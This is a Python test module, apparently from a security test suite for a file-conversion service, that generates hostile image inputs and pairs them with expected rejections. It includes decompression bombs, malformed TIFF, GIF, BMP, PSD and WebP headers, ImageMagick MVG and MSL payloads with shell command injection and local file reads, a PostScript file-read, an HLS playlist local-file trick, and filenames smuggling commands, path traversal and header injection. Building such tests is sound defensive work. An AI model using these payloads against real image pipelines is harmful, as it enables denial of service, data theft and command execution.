# ruff: noqa: E501 - a payload reads best in one piece
"""Pictures that are bombs, and pictures that are something else (recipes 8 and 9)."""

from __future__ import annotations

import struct
import zlib

from makers.attack import ANY, BAD, EITHER, LARGE, Attack, Bait, Twin, ends
from makers.packages import chunk, deflated_zeros, png


def _tiff(*, directories: int, cyclic: bool) -> bytes:
    """Directories of one grey pixel each; the last points at the first when it is a cycle."""
    entries = [(256, 3, 1, 1), (257, 3, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (278, 3, 1, 1),
               (279, 4, 1, 1)]  # fmt: skip
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    size, start = len(body) + 4, 12
    chain = b"".join(
        body + struct.pack("<I", start + size * (n + 1) if n + 1 < directories else (start if cyclic else 0))
        for n in range(directories)
    )
    return b"II*\0" + struct.pack("<I", start) + b"\x80\0\0\0" + chain


def _gif(frames: int, size: int = 1) -> bytes:
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, size, size, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", size, size, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + frame * frames + b";"


def _bmp(width: int, height: int) -> bytes:
    return (
        b"BM"
        + struct.pack("<IHHI", 1000, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
        + b"x" * 900
    )


def _ico(entries: int) -> bytes:
    picture = png(256, 256)
    offset = 6 + 16 * entries
    rows = b"".join(struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(picture), offset) for _ in range(entries))
    return struct.pack("<HHH", 0, 1, entries) + rows + picture


def _psd(layers: int) -> bytes:
    record = struct.pack(">iiiiH", 0, 0, 30000, 30000, 0) + b"8BIMnorm" + b"\xff\0\0\0" + struct.pack(">I", 0)
    info = struct.pack(">h", layers) + record * layers
    section = struct.pack(">I", len(info)) + info
    return (
        b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 8, 8, 8, 3) + struct.pack(">III", 0, 0, len(section)) + section
        + struct.pack(">H", 0) + b"\x40" * 192
    )  # fmt: skip


def _webp() -> bytes:
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + b"\xff\x3f\0" + b"\xff\x3f\0"
    vp8l = b"VP8L" + struct.pack("<I", 20) + b"\x2f\xff\xff\xff\x0f" + b"\0" * 15
    body = b"WEBP" + vp8x + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _profile(bait: Bait) -> bytes:
    """The text chunk that made a picture program read a file into its output."""
    texts = b"".join(
        chunk(b"tEXt", f"{key}\0{path}".encode())
        for path in bait.files
        for key in ("profile", "Raw profile type exif", "Comment", "svg:base-uri")
    )
    return png(before=texts)


def _mvg(bait: Bait) -> bytes:
    return (
        f"push graphic-context\nviewbox 0 0 99 99\nfill 'url({bait.url}/m.png)'\nimage over 0,0 0,0 'label:@{bait.file}'\n"
        f"image over 0,0 0,0 'ephemeral:{bait.file}'\nfill 'url(https://x|touch {bait.pwned})'\npop graphic-context\n"
    ).encode()


def _msl(bait: Bait) -> bytes:
    return (
        f'<?xml version="1.0"?><image><read filename="{bait.url}/m"/><read filename="text:{bait.file}"/><write filename='
        f'"{bait.pwned}"/></image>'
    ).encode()


def _playlist(bait: Bait) -> bytes:
    return f"#EXTM3U\n#EXTINF:1,\nconcat:{bait.url}/a|file://{bait.file}\n#EXT-X-ENDLIST\n".encode()


def _zeros(kind: bytes, head: bytes) -> bytes:
    return png(before=chunk(kind, head + deflated_zeros(512 << 20)))


_FLOOD = LARGE | {"corrupt_input"}
_NOT_A_PICTURE = BAD | ends("unsupported_conversion")

ATTACKS = (
    Attack("png-flood", "a.png", lambda _: png(65_500, 65_500, pixels=deflated_zeros(64 << 20)), ("jpg", "pdf"), ("B21",),
           ends("image_too_large")),
    Attack("png-text-bomb", "a.png", lambda _: _zeros(b"zTXt", b"Comment\0\0"), ("jpg", "webp"), ("B21",), ANY),
    Attack("png-profile-bomb", "a.png", lambda _: _zeros(b"iCCP", b"icc\0\0"), ("jpg", "tiff"), ("B21",), ANY),
    Attack("png-names-files", "a.png", _profile, ("jpg", "png", "webp", "pdf"), ("B15",)),
    Attack("tiff-cycle", "a.tiff", lambda _: _tiff(directories=3, cyclic=True), ("png", "pdf"), ("B21",), ANY),
    Attack("tiff-pages", "a.tiff", lambda _: _tiff(directories=100_000, cyclic=False), ("png", "pdf"), ("B21",), ANY),
    Attack("gif-frames", "a.gif", lambda _: _gif(100_000), ("webp", "png", "mp4"), ("B21",), ANY),
    Attack("gif-flood", "a.gif", lambda _: _gif(3, 65_535), ("png", "mp4"), ("B21",), _FLOOD),
    Attack("bmp-overflow", "a.bmp", lambda _: _bmp(65_536, 65_537), ("png",), ("B21",), _FLOOD),
    Attack("bmp-negative", "a.bmp", lambda _: _bmp(-5, -2_147_483_648), ("png",), ("B21",), _FLOOD),
    Attack("ico-entries", "a.ico", lambda _: _ico(255), ("png",), ("B21",), ANY),
    Attack("psd-layers", "a.psd", lambda _: _psd(10_000), ("png",), ("B21", "B35"), ANY),
    Attack("webp-flood", "a.webp", lambda _: _webp(), ("png",), ("B21",), _FLOOD),
    Attack("mvg-named-png", "a.png", _mvg, ("jpg",), ("B14",), _NOT_A_PICTURE),
    Attack("msl-named-jpg", "a.jpg", _msl, ("png",), ("B14",), _NOT_A_PICTURE),
    Attack("mvg-named-svg", "a.svg", _mvg, ("png",), ("B14",), _NOT_A_PICTURE),
    Attack("postscript-named-jpg", "a.jpg", lambda bait: f"%!PS\n({bait.file}) run showpage\n".encode(), ("png",), ("B17",),
           _NOT_A_PICTURE),
    Attack("playlist-named-png", "a.png", _playlist, ("jpg", "jxl"), ("B14", "B18"), _NOT_A_PICTURE),
    *(Attack(f"picture-named-{number}", name, lambda _: png(), ("jpg",), ("B14", "B19", "B33"), EITHER) for number, name in enumerate(
        ("msl:x.png", "|touch pwned.png", "-write.png", "@canary.txt.png", "ephemeral:x.png", "../../../x.png", "a\0.png", "con.png",
         "$(id).png", "\u202egnp.exe", "x" * 4096 + ".png", "a\r\nSet-Cookie: x.png"))),
)  # fmt: skip

TWINS = (
    Twin("png with a comment", "a.png", lambda: png(before=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"hi" * 99))), "jpg", "", ("B15",)),
    Twin("gif of many frames", "a.gif", lambda: _gif(20), "webp", "", ("B21",)),
    Twin("tiff of three pages", "a.tiff", lambda: _tiff(directories=3, cyclic=False), "pdf", "", ("B21",)),
    Twin("png of millions of pixels", "a.png", lambda: png(4000, 4000), "jpg", "", ("B21",)),
)  # fmt: skip
